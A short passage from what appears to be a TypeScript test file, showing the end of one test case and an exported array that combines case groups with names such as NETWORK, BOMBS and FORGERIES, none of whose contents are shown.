    ends: ['passed', 'missed', 'crashed'],
    says: /^done$/,
  },
];

export const CASES: readonly Case[] = [
  ...NETWORK,
  ...IMPORTS,
  ...STORAGE,
  ...POWERS,
  ...LOOPS,
  ...BOMBS,
  ...FLOODS,
  ...VALUES,
  ...FORGERIES,
];
